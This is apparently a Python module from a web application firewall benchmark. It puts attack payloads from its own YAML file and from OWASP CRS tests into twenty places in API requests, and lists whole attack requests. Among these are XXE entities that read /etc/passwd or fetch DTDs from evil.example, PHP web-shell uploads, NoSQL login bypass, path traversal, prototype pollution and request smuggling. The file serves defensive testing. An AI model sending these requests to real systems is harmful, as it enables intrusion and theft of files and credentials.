"""Attacks in ordinary places of API requests: which classes are found, and where."""

from __future__ import annotations

import base64
import functools
import json
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final
from urllib.parse import parse_qsl, quote, urlencode, urlsplit
from xml.sax.saxutils import escape, quoteattr

import yaml

from benchmarks.quality.clients import Call, sent, urlsafe
from benchmarks.quality.multipart import STYLES, Part, written
from benchmarks.quality.sample import CORPORA, Sample, chance

OWN: Final = Path(__file__).with_name("payloads.yaml")
CRS: Final = CORPORA / "crs"
JSON: Final = "application/json"
FORM: Final = "application/x-www-form-urlencoded"

CRS_CLASSES: Final = {
    "930": "lfi", "931": "rfi", "932": "rce", "933": "php", "934": "nodejs, ssrf, ssti", "941": "xss", "942": "sqli", "944": "java",
}  # fmt: skip
"""What CRS' rule files are about, by the first digits of their rules."""


@dataclass(frozen=True, slots=True)
class Payload:
    """A text that attacks what reads it.

    Attributes:
        kind: its class.
        origin: `own`, or the test of CRS that it is from.
    """

    kind: str
    text: str
    origin: str = "own"


@functools.cache
def own() -> tuple[Payload, ...]:
    """The payloads of payloads.yaml."""
    listed = yaml.safe_load(OWN.read_text())
    return tuple(Payload(kind, text) for kind, texts in listed.items() for text in texts)


@functools.cache
def of_crs() -> tuple[Payload, ...]:
    """What CRS' regression tests send for rules of paranoia level 1, where it stands in an argument.

    A test of a family may hold several arguments; those that are longer than 3 characters and not plain words count.
    """
    found: dict[str, Payload] = {}
    levels = _levels()
    for file in sorted(CRS.glob("tests/regression/tests/*/*.y*ml")):
        document = yaml.load(file.read_bytes(), yaml.CSafeLoader) or {}
        rule = str(document.get("rule_id", ""))
        kind = CRS_CLASSES.get(rule[:3])
        if kind is None or levels.get(rule) != 1:
            continue
        for test in document.get("tests", ()):
            for stage in test["stages"]:
                if int(rule) not in ((stage["output"].get("log") or {}).get("expect_ids") or ()):
                    continue
                for text in _arguments(stage["input"]):
                    found.setdefault(text, Payload(kind, text, f"{rule}-{test['test_id']}"))
    return tuple(found.values())


@functools.cache
def _levels() -> dict[str, int]:
    """Paranoia level of each rule, by its tag."""
    levels = {}
    for file in (CRS / "rules").glob("*.conf"):
        for block in re.split(r"\n(?=Sec)", file.read_text()):
            rule, level = re.search(r"id:(\d+)", block), re.search(r"paranoia-level/(\d)", block)
            if rule and level:
                levels[rule[1]] = int(level[1])
    return levels


def _arguments(given: dict[str, Any]) -> Iterator[str]:
    query = urlsplit(str(given.get("uri", ""))).query if "uri" in given else ""
    body = str(given.get("data") or "")
    content_type = str(
        {name.lower(): value for name, value in (given.get("headers") or {}).items()}.get(
            "content-type", FORM
        )
    )
    pairs = parse_qsl(query, errors="surrogateescape")
    if FORM in content_type and "=" in body[:60]:
        pairs += parse_qsl(body, errors="surrogateescape")
    for _, value in pairs:
        if (
            len(value) > 3
            and not re.fullmatch(r"[\w .-]+", value)
            and len(value) < 2000
            and "\udcff" not in value
        ):
            yield value


Place = Callable[[str, random.Random], Call]


def _text(value: str) -> bytes:
    return value.encode("utf-8", "surrogateescape")


def _json(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogateescape")


def _quoted(value: str) -> str:
    return quote(_text(value), safe="")


def in_json(text: str, _: random.Random) -> Call:
    """A value of a JSON object."""
    return Call("POST", "/v1/orders", _json({"id": 42, "customer": text, "open": True}), JSON)


def in_nested_json(text: str, _: random.Random) -> Call:
    """A value deep in JSON."""
    return Call(
        "PUT",
        "/v1/orders/42",
        _json({"order": {"lines": [{"sku": "A-1", "options": {"engraving": ["x", text]}}]}}),
        JSON,
    )


def in_comment(text: str, _: random.Random) -> Call:
    """A comment in JSON, where people write: a mention of an attack is none there, and what breaks out is one."""
    return Call("POST", "/v1/orders/42/comments", _json({"comment": text, "rating": 5}), JSON)


def in_message(text: str, _: random.Random) -> Call:
    """A message in a form, where people write."""
    return Call("POST", "/v1/messages", f"topic=delivery&message={_quoted(text)}".encode(), FORM)


def in_json_key(text: str, _: random.Random) -> Call:
    """A name in a JSON object."""
    return Call("POST", "/v1/orders", _json({"filter": {text: 1}}), JSON)


def in_form(text: str, _: random.Random) -> Call:
    """A field of a form."""
    return Call("POST", "/v1/messages", f"name=Anna&city={_quoted(text)}&lang=en".encode(), FORM)


def in_query(text: str, _: random.Random) -> Call:
    """A parameter of the query."""
    return Call("GET", f"/v1/items?page=2&q={_quoted(text)}&sort=name")


def in_path(text: str, _: random.Random) -> Call:
    """A segment of the path."""
    return Call("GET", f"/v1/items/{_quoted(text)}/reviews")


def in_header(text: str, _: random.Random) -> Call:
    """A header of the API's own."""
    return Call("GET", "/v1/items", headers=(("x-tenant", _header(text)),))


def in_referer(text: str, _: random.Random) -> Call:
    """The address of the page before."""
    return Call("GET", "/v1/items", headers=(("referer", b"https://app.example.com/?q=" + _header(text)),))


def in_agent(text: str, _: random.Random) -> Call:
    """The name of the client."""
    return Call("GET", "/v1/items", headers=(("user-agent", b"Mozilla/5.0 " + _header(text)),))


def in_cookie(text: str, _: random.Random) -> Call:
    """A cookie, with what a cookie cannot hold percent-encoded."""
    value = _header(text).replace(b";", b"%3B").replace(b",", b"%2C").decode("latin-1")
    return Call(
        "GET", "/v1/items", headers=(("cookie", f"session=4f1c9a; prefs={value}; lang=en".encode("latin-1")),)
    )


def in_basic(text: str, _: random.Random) -> Call:
    """The user name of Basic credentials."""
    return Call(
        "GET",
        "/v1/me",
        headers=(("authorization", "Basic " + base64.b64encode(_text(text) + b":secret").decode()),),
    )


def in_jwt(text: str, _: random.Random) -> Call:
    """A claim of a JSON Web Token."""
    parts = (_json({"alg": "HS256", "typ": "JWT"}), _json({"sub": text, "iat": 1732700000}))
    return Call(
        "GET",
        "/v1/me",
        headers=(("authorization", "Bearer " + ".".join([*map(urlsafe, parts), urlsafe(b"x" * 32)])),),
    )


def in_multipart(text: str, rng: random.Random) -> Call:
    """A field of a multipart form."""
    parts = [
        Part("title", b"Hello"),
        Part("city", _text(text)),
        Part("file", b"hello", "a.txt", "text/plain"),
    ]
    body, kind = written(STYLES["chrome"], parts, rng)
    return Call("POST", "/v1/messages", body, kind)


def in_filename(text: str, rng: random.Random) -> Call:
    """The name of an uploaded file."""
    body, kind = written(STYLES["chrome"], [Part("file", b"hello", text, "text/plain")], rng)
    return Call("POST", "/v1/files", body.replace(text.encode("utf-8", "replace"), _text(text)), kind)


def in_xml(text: str, _: random.Random) -> Call:
    """The text of an XML element."""
    clean = escape(_xml_text(text))
    return Call(
        "POST",
        "/v1/orders",
        _text(f'<?xml version="1.0"?><order><id>42</id><customer>{clean}</customer></order>'),
        "application/xml",
    )


def in_xml_attribute(text: str, _: random.Random) -> Call:
    """An attribute of an XML element."""
    return Call(
        "POST",
        "/v1/orders",
        _text(f'<order id="42"><line customer={quoteattr(_xml_text(text))}>x</line></order>'),
        "application/xml",
    )


def _xml_text(text: str) -> str:
    """XML has no control characters."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", " ", text)


def in_graphql(text: str, _: random.Random) -> Call:
    """An argument in a GraphQL document."""
    literal = json.dumps(text, ensure_ascii=False)
    return Call(
        "POST",
        "/graphql",
        _json({"query": f"mutation {{ saveOrder(id: 7, city: {literal}) {{ id }} }}"}),
        JSON,
    )


def in_graphql_variable(text: str, _: random.Random) -> Call:
    """A variable of a GraphQL operation."""
    query = "mutation Save($city: String!) { saveOrder(id: 7, city: $city) { id } }"
    return Call("POST", "/graphql", _json({"query": query, "variables": {"city": text}}), JSON)


def _header(text: str) -> bytes:
    """A header has no line ends."""
    return _text(re.sub(r"[\r\n\0]", " ", text))


PLACES: Final[dict[str, Place]] = {
    "json value": in_json, "nested json": in_nested_json, "json comment": in_comment, "form message": in_message, "json key": in_json_key, "form field": in_form, "query": in_query, "path segment": in_path,
    "header": in_header, "referer": in_referer, "user-agent": in_agent, "cookie": in_cookie, "basic credentials": in_basic, "jwt claim": in_jwt,
    "multipart field": in_multipart, "file name": in_filename, "xml text": in_xml, "xml attribute": in_xml_attribute,
    "graphql argument": in_graphql, "graphql variable": in_graphql_variable,
}  # fmt: skip

PROTOCOL: Final[dict[str, Call]] = {
    "xxe general entity": Call("POST", "/v1/orders", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>', "application/xml"),
    "xxe http entity": Call("POST", "/v1/orders", b'<!DOCTYPE a [<!ENTITY x SYSTEM "https://evil.example/x">]><a>&x;</a>', "application/xml"),
    "xxe parameter entity": Call("POST", "/v1/orders", b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>', "text/xml"),
    "xxe external subset": Call("POST", "/v1/orders", b'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>', "application/xml"),
    "xxe public": Call("POST", "/v1/orders", b'<!DOCTYPE a PUBLIC "-//X//EN" "http://evil.example/x.dtd"><a/>', "application/xml"),
    "xxe xinclude": Call("POST", "/v1/orders", b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>', "application/xml"),
    "xxe svg upload": Call("POST", "/v1/image", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>', "image/svg+xml"),
    "xxe soap": Call("POST", "/soap", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///c:/boot.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&e;</soap:Body></soap:Envelope>', "text/xml"),
    "billion laughs": Call("POST", "/v1/orders", ('<!DOCTYPE a [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9)) + "]><a>&a8;</a>").encode(), "application/xml"),
    "quadratic entities": Call("POST", "/v1/orders", ('<!DOCTYPE a [<!ENTITY x "' + "A" * 20_000 + '">]><a>' + "&x;" * 2_000 + "</a>").encode(), "application/xml"),
    "range of many": Call("GET", "/files/1", headers=(("range", "bytes=" + ",".join(f"{n}-{n + 1}" for n in range(0, 400, 2))),)),
    "two content types": Call("POST", "/v1/orders", b'{"a": "1\' OR \'1\'=\'1"}', "text/plain, application/json"),
    "trace": Call("TRACE", "/"),
    "track": Call("TRACK", "/"),
    "connect": Call("CONNECT", "/"),
    "scanner": Call("GET", "/", headers=(("user-agent", "sqlmap/1.8.11#stable (https://sqlmap.org)"),)),
    "nuclei": Call("GET", "/", headers=(("user-agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"),)),
    "prototype pollution in json": Call("POST", "/v1/things", b'{"a": {"__proto__": {"isAdmin": true}}}', JSON),
    "prototype pollution in query": Call("GET", "/v1/things?__proto__[isAdmin]=1"),
    "constructor pollution": Call("POST", "/v1/things", b'{"constructor": {"prototype": {"isAdmin": true}}}', JSON),
    "operator in log-in": Call("POST", "/login", b'{"user": "admin", "password": {"$ne": null}}', JSON),
    "operator in form": Call("POST", "/login", b"user=admin&password[$ne]=x", FORM),
    "where operator": Call("POST", "/items", b'{"$where": "this.a == 1 || sleep(5000)"}', JSON),
    "traversal in path": Call("GET", "/static/../../../../etc/passwd"),
    "encoded traversal in path": Call("GET", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    "encoded slashes in path": Call("GET", "/static/..%2f..%2f..%2fetc%2fpasswd"),
    "semicolon traversal": Call("GET", "/public/..;/manager/html"),
    "encoded semicolon traversal": Call("GET", "/public/%2e%2e;/manager/html"),
    "dot env": Call("GET", "/.env"),
    "dot git": Call("GET", "/.git/config"),
    "php upload": Call("POST", "/v1/files", *written(STYLES["curl"], [Part("file", b"hello", "shell.php", "image/png")], random.Random(1))),
    "jsp upload": Call("POST", "/v1/files", *written(STYLES["curl"], [Part("file", b"hello", "shell.jsp", "image/png")], random.Random(1))),
    "double extension upload": Call("POST", "/v1/files", *written(STYLES["curl"], [Part("file", b"<?php system('id'); ?>", "a.php.png", "image/png")], random.Random(1))),
    "php in image": Call("POST", "/v1/files", *written(STYLES["curl"], [Part("file", b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>", "a.png", "image/png")], random.Random(1))),
    "smuggled request in body": Call("POST", "/v1/orders", b"x=1\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n", FORM),
    "null byte in query": Call("GET", "/v1/files?name=a.php%00.png"),
    "http splitting": Call("GET", "/v1/redirect?to=%0d%0aSet-Cookie:%20a=1"),
}  # fmt: skip
"""Attacks on how requests and documents are read, each a whole request; class `protocol`."""


def payloads(quick: bool = False, most: int = 900) -> list[Payload]:
    """Own payloads and CRS', at most so many of these."""
    theirs = of_crs()
    rng = chance("payloads")
    chosen = theirs if len(theirs) <= most else tuple(rng.sample(theirs, most))
    return [*own(), *(rng.sample(chosen, min(len(chosen), 100)) if quick else chosen)]


def placed(payload: Payload, place: str) -> Sample:
    """A payload in a place, as some client sends it."""
    rng = chance(place, payload.text)
    kind = f"{'crs' if payload.origin != 'own' else 'own'} {payload.kind} | {place}"
    return sent(
        kind,
        f"{payload.origin}: {payload.text[:100]}",
        PLACES[place](payload.text, rng),
        rng,
        "curl" if place in {"cookie", "referer", "user-agent"} else "",
    )


def samples(quick: bool = False) -> Iterator[Sample]:
    """Every payload in every place, and the attacks on protocols."""
    for payload in payloads(quick):
        for place in PLACES:
            yield placed(payload, place)
    for name, call in PROTOCOL.items():
        yield sent("own protocol | as it is", name, call, chance(name), "curl")


__all__ = ["PLACES", "Payload", "own", "payloads", "placed", "samples", "urlencode"]
